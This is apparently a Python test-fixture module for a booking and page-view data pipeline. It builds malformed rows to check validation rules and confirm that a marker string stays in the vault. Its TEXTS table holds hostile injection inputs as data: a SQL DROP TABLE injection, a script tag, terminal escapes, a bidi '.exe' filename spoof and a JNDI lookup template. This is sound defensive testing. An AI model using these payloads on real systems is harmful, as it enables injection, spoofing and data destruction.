"""Bad values for one row of the source each: where, what, and what has to become of it.

A case is planted in a partition of its own kind together with all others, because whatever is wrong in one row may not
touch its neighbours. `rules` hold the row back; without one it is accepted, and stands in the vault as it came or as
`lands` says.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import date
from typing import Any

from builders import POLICY, World
from governance.datasets import Treatment

MARK = "Zebrakanarie"
"""In every bad text: what must be found nowhere but in the vault."""

MINOR = date(2010, 3, 10)  # 16 on the world's day
UNCHANGED = object()


@dataclass(frozen=True, eq=False)
class BadRow:
    """One value of one column that is not as it should be."""

    place: str  # table.column
    kind: str
    value: Any
    rules: frozenset[str] = frozenset()
    refused: str = ""  # the rule by which pull refuses the row
    lands: Any = UNCHANGED
    beside: Mapping[str, Any] = field(default_factory=dict)  # further columns of the row

    @property
    def name(self) -> str:
        """Of the test."""
        return f"{self.place}, {self.kind}".replace(" ", "_")

    @property
    def table(self) -> str:
        """Of the source."""
        return self.place.partition(".")[0]

    @property
    def dataset(self) -> str:
        """Whose pipeline reads it."""
        return "visits" if self.table == "page_views" else "bookings"

    def plant(self, world: World, *, is_mended: bool = False) -> str:
        """Put the row, and what it needs around it, into the source; returns the root's row key. Mended, it is
        sound."""
        column = self.place.partition(".")[2]
        changes = {} if is_mended else {column: self.value, **self.beside}
        if self.table == "page_views":
            return world.view(**changes)
        if self.table == "bookings":
            return world.booking(**changes)
        if self.table == "guardian_consents":
            return world.booking(travellers=[{"birth_date": MINOR}], consents=[changes])
        if self.table == "providers":
            number = 100 + world.number()
            world.insert("providers", **{**PROVIDER, "provider_id": number, **changes})
            return world.booking(services=[{"provider_id": number}])
        if self.table in ("clients", "terms_acceptances", "payment_cards"):
            part = {"clients": "client", "terms_acceptances": "terms", "payment_cards": "card"}[self.table]
            return world.booking(**{part: changes})
        return world.booking(**{self.table.removeprefix("booking_"): [changes]})


PROVIDER = {
    "kind": "health", "name": "Provider", "country_code": "SE", "active_from": date(2010, 1, 1), "active_until": None,
    "recorded_at": date(2020, 1, 1),
}  # fmt: skip


def columns(*types: str) -> list[str]:
    """`table.column` of everything of these types in the tables that a pipeline reads."""
    return [
        f"{table}.{name}"
        for dataset in POLICY.datasets.values()
        for table, declared in dataset.source.items()
        for name, column in declared.items()
        if column.type in types
    ]


def is_refused(place: str) -> bool:
    """Whether policy never lets the column be read."""
    table, _, name = place.partition(".")
    return POLICY.source_tables[table][name].treatment is Treatment.REFUSE


def kept_as(place: str) -> list[tuple[str, str]]:
    """(landed table, column) in which the value itself is kept, in clear or encrypted: no measure, no token."""
    return [
        (table, name)
        for dataset in POLICY.datasets.values()
        for table, landed in dataset.landed.items()
        for name, column in landed.columns.items()
        if column.origin == (place,)
        and name != "row_key"
        and column.treatment in (Treatment.KEEP, Treatment.ENCRYPT)
        and not column.measure
    ]


# -- texts -------------------------------------------------------------------------------------------------------------

TEXTS = {
    "SQL": f"{MARK}'); DROP TABLE wellbe.bookings; --",
    "HTML": f"<script>alert('{MARK}')</script>&amp;<!--",
    "terminal escapes": f"\x1b[2J\x1b]0;{MARK}\x07\x1b[31m\x9b1m",
    "bidi": f"{MARK}\u202egnp.exe\u2066\u200b",
    "NUL-like": f"{MARK}\\x00\\u0000\u2400%00\\0",
    "templates": f"%s %(password)s {{0}} $1 :name ${{jndi:ldap://example.com/{MARK}}} {{{{7*7}}}}",
    "COPY marks": f'\\N\t\\.\r\n\\.\n"{MARK}",,\n',
    "outside the BMP": f"{MARK} \U0001f468\u200d\U0001f469\u200d\U0001f467 \uffff \U0010fffd e\u0301\u0316",
    "empty": "",
}

TEXT_RULES = {
    "bookings.purpose_code": {"A1.known_purpose"},
    "bookings.status": {"A1.known_status"},
    "bookings.currency_code": {"A1.known_currency"},
    "clients.email": {"A1.plausible_email"},
    "booking_services.kind": {"H1.known_provider"},  # it is not the provider's kind
    "booking_services.procedure_code": {"E1.known_procedure"},
    "guardian_consents.relation": {"L2.guardian_is_another"},  # neither parent nor guardian
    "providers.kind": {"H1.known_provider"},
    "page_views.ip": {"B1.plausible_address"},
    "page_views.url": {"B1.plausible_path"},
}


def texts() -> Iterator[BadRow]:
    """Every text column with every kind of text."""
    for place in columns("text"):
        for kind, value in TEXTS.items():
            is_nobody = place == "guardian_consents.guardian_name" and kind == "empty"
            rules = {"L2.guardian_named"} if is_nobody else TEXT_RULES.get(place, set())
            yield BadRow(place, kind, value, frozenset(rules))


MEGABYTES = 10


def long_texts() -> Iterator[BadRow]:
    """Every text column with ten megabytes."""
    value = MARK.ljust(MEGABYTES * 1_000_000, "x")
    for place in columns("text"):
        yield BadRow(place, "10 MB", value, frozenset(TEXT_RULES.get(place, ())))
